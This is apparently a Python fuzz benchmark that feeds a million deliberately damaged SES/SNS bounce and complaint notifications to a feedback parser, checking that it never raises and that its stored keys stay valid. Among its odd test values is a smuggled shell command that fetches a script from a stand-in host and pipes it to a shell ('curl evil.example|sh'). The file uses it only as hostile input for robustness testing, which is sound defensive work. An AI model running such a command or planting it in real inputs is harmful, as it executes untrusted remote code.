"""Damaged notifications, as many as one likes, read: nothing is raised, each ends as one of four readings.

The same seed makes the same messages. They come from the files in events/: their text is cut, spliced and
littered with characters, and what their JSON holds is deleted, moved, repeated, or replaced by odd values.
"""

import json
import time
from collections import Counter
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any, get_args

from rich.console import Console
from rich.progress import track

from benchmarks.sender_hour import OWNER
from ses_reputation.feedback.provenance import Reason, Registry
from ses_reputation.feedback.reading import Observed, Reading, read_wire
from ses_reputation.feedback.set_aside import Ignored, Quarantined
from ses_reputation.ledger.entries import Entry
from ses_reputation.ledger.journal import JournalDraft

MESSAGES = 1_000_000
SEED = 20_261_126
BATCH = 1_000
REGISTRY = Registry(frozenset({OWNER}), frozenset({"444455556666", "777788889999"}))
MOST_FAULTS_NAMED = 10
_EVENTS = Path(__file__).parents[1] / "events"
_NOW = datetime(2026, 11, 26, tzinfo=UTC)
_RETENTION = timedelta(days=400)
ADDRESS = "recipient-99@gmail.com"
# DynamoDB: bytes of a sort key and of a partition key, at most.
_MOST_SORT_KEY, _MOST_PARTITION_KEY = 1_024, 2_048


def _nested(depth: int) -> list[Any]:
    nest: list[Any] = []
    for _ in range(depth):
        nest = [nest]
    return nest


ODD_VALUES: list[Any] = [
    *(None, True, 0, -1, 1.5, 10**30, float("nan"), float("inf"), "", " ", "<>", [], {}, "\ud83d", "\udc00x"),
    *(ADDRESS, [ADDRESS], {"emailAddress": ADDRESS}, [{"emailAddress": ADDRESS}], {"emailAddress": None}),
    *("(" * 600 + ")" * 600 + f" <{ADDRESS}>", '"' * 999, "\\" * 999, "é" * 2_000, "x" * 400, "a@" * 300),
    *(
        _nested(150),
        _nested(400),
        [None] * 60,
        [ADDRESS] * 51,
        {"a": {"b": [{}]}},
        "\x1b[31m",
        "[/x]",
        "\u202e",
    ),
    *("x;curl evil.example|sh;#", "=cmd", "us-east-1-", "arn:aws:ses:*:111122223333:identity/example.com"),
    *("arn:aws:ses:eu-west-1:111122223333:identity/example.com", "arn:aws:sns:us-east-1:111122223333:t", "1"),
    *(
        "2026-11-20 14:05:45Z",
        "2026-11-20T14:05:45 +0000",
        "9999-12-31T23:59:59-14:00",
        "Bounce",
        "Complaint",
    ),
    *(
        "Send",
        "Delivery",
        "DeliveryDelay",
        "Rendering Failure",
        "Open",
        "Received",
        "Permanent",
        "999900001111",
    ),
]
LITTER = [
    *(
        '"',
        "\\",
        "\\ud83d",
        "\\u12",
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "@",
        "<",
        "(",
        "\x00",
        "\x1b",
        "é",
        "😀",
        "null",
    ),
    *(
        "[" * 2_000,
        '{"a":' * 500,
        "9" * 5_000,
        f" {ADDRESS} ",
        "-",
        "1e999",
        '"eventType":"Bounce",',
        "\u2028",
    ),
]


@dataclass(slots=True)
class FuzzOutcome:
    """How so many damaged messages ended, by reading, and what went wrong: each kind of fault, how often."""

    messages: int = 0
    ended: Counter[str] = field(default_factory=Counter)
    observations: int = 0
    mended: int = 0
    faults: Counter[str] = field(default_factory=Counter)
    seconds: float = 0


def main(console: Console, messages: int = MESSAGES, seed: int = SEED) -> FuzzOutcome:
    """Print how damaged messages ended. Raises AssertionError where something went wrong."""
    console.rule(f"Fuzz: {messages:,} damaged messages, seed {seed}")
    batches = range(0, messages, BATCH)
    outcome, random, bodies = FuzzOutcome(), Random(seed), example_bodies()
    for begin in track(batches, "reading", console=console, transient=True, disable=not console.is_terminal):
        read_batch(random, bodies, min(BATCH, messages - begin), outcome)
    for ended, count in outcome.ended.most_common():
        console.print(f"{count:>10,}  {ended}")
    console.print(
        f"{outcome.observations:,} observations; {outcome.mended:,} messages were read without a part; "
        f"{outcome.seconds * 1e6 / messages:.1f} us of CPU to read one"
    )
    console.print(f"{outcome.faults.total():,} faults")
    if outcome.faults:
        raise AssertionError(f"faults: {outcome.faults.most_common(MOST_FAULTS_NAMED)}")
    return outcome


def example_bodies() -> list[str]:
    """Return the bodies of the messages in events/, in the order of their names."""
    return [
        json.loads(path.read_text(encoding="utf-8"))["Records"][0]["body"]
        for path in sorted(_EVENTS.rglob("*.json"))
        if path.parent.name != "archives"
    ]


def read_batch(random: Random, bodies: list[str], messages: int, outcome: FuzzOutcome) -> None:
    """Read so many damaged messages, and journal what they say, as one batch."""
    draft = JournalDraft(_NOW, _RETENTION)
    for number in range(messages):
        body = damaged(random, bodies)
        begun = time.process_time()
        try:
            reading = read_wire(body, REGISTRY)
        except Exception as error:
            outcome.faults[f"raised {type(error).__name__}"] += 1
            continue
        outcome.seconds += time.process_time() - begun
        outcome.messages += 1
        outcome.faults.update(faults_of(reading))
        _count(reading, outcome)
        if isinstance(reading, Observed):
            draft.add(str(number), reading)
    outcome.faults.update(faults_of_rows(draft))


def _count(reading: Reading, outcome: FuzzOutcome) -> None:
    match reading:
        case Observed():
            outcome.ended["observed"] += 1
            outcome.observations += len(reading.observations)
            outcome.mended += bool(reading.left_out)
        case Ignored():
            outcome.ended[f"ignored: {reading.kind}"] += 1
        case Quarantined():
            outcome.ended[f"quarantined: {reading.reason}"] += 1
        case _:
            outcome.ended["subscription to confirm"] += 1


def faults_of(reading: Reading) -> Iterator[str]:
    """Yield what must not be with a reading."""
    if type(reading) not in get_args(Reading):
        yield f"read as {type(reading).__name__}"
    if isinstance(reading, Quarantined):
        if reading.reason is Reason.DEFECT:
            yield reading.explanation
        if "@" in reading.explanation or not reading.explanation.isprintable():
            yield "an explanation quotes the message"
    if isinstance(reading, Observed):
        names = (
            *reading.sender_hour,
            reading.origin.from_domain,
            reading.message_id,
            reading.configuration_set or "",
        )
        if not all(name.isascii() and name.isprintable() and " " not in name for name in names):
            yield "a name that is kept holds what none may"
        if not 0 < len(reading.observations) <= 100:
            yield "an event of nobody, or of too many"


def faults_of_rows(draft: JournalDraft) -> Iterator[str]:
    """Yield what DynamoDB would refuse of a batch's rows."""
    for row, messages in draft.rows():
        if not messages:
            yield "a row of no message"
        if isinstance(row, Entry):
            keys = (row.sort_key, _MOST_SORT_KEY), (row.attributes["recipient"], _MOST_PARTITION_KEY)
            if not all(0 < len(key.encode()) <= most for key, most in keys):
                yield "a key that DynamoDB refuses"
            "".join(row.attributes.values()).encode()


def damaged(random: Random, bodies: list[str]) -> str:
    """Return one of the bodies, damaged in one to four places."""
    body = random.choice(bodies)
    where = random.random()
    if where < 0.08:
        return damaged_text(random, body, bodies)
    envelope = _object(body)
    if envelope is None:
        return damaged_text(random, body, bodies)
    if where < 0.18:
        return json.dumps(damaged_json(random, envelope))
    message = envelope.get("Message", "")
    event = _object(message)
    if where < 0.3 or event is None:
        envelope["Message"] = damaged_text(random, message, bodies)
    else:
        envelope["Message"] = json.dumps(damaged_json(random, event), ensure_ascii=random.random() < 0.5)
    return json.dumps(envelope)


def _object(text: str) -> dict[str, Any] | None:
    try:
        content = json.loads(text)
    except ValueError:
        return None
    return content if isinstance(content, dict) else None


def damaged_text(random: Random, text: str, others: list[str]) -> str:
    """Return a text with characters, and bytes of its UTF-8, cut out, repeated, replaced or put in."""
    for _ in range(random.randint(1, 4)):
        begin = random.randrange(len(text) + 1)
        end = min(len(text), begin + random.choice((0, 1, 1, 2, 5, 40, 400)))
        instead = random.choice(
            ("", random.choice(LITTER), text[begin:end] * 2, chr(random.randrange(0x2_0000)))
        )
        if random.random() < 0.05:
            instead, end = random.choice(others)[begin:], len(text)
        text = text[:begin] + instead + text[end:]
    if random.random() < 0.2:
        whole = bytearray(text.encode(errors="surrogatepass"))
        for _ in range(random.randint(1, 3)):
            whole[random.randrange(len(whole) or 1) : 0] = bytes([random.randrange(256)])
        text = whole.decode(errors="replace")
    return text


def damaged_json(random: Random, value: dict[str, Any]) -> dict[str, Any]:
    """Return an object with what stands somewhere in it deleted, moved, repeated or replaced."""
    for _ in range(random.choice((1, 1, 1, 2, 3))):
        parent, key = _place(random, value)
        if parent is None:
            break
        other, other_key = _place(random, value)
        match random.randrange(6):
            case 0:
                del parent[key]
            case 1 | 2:
                parent[key] = deepcopy(random.choice(ODD_VALUES))
            case 3 if other is not None:
                parent[key] = deepcopy(other[other_key])
            case 4 if isinstance(parent[key], str):
                parent[key] = damaged_text(random, parent[key], LITTER)
            case 4 | 5:
                parent[key] = random.choice(([parent[key]], {"a": parent[key]}, [parent[key]] * 2))
    return value


def _place(random: Random, value: Any) -> tuple[Any, Any]:
    """Return a container somewhere in a value, and a key of it; None where the value is empty."""
    parent = key = None
    while isinstance(value, dict | list) and value and (parent is None or random.random() < 0.8):
        parent, key = (
            value,
            random.choice(list(value)) if isinstance(value, dict) else random.randrange(len(value)),
        )
        value = parent[key]
    return parent, key
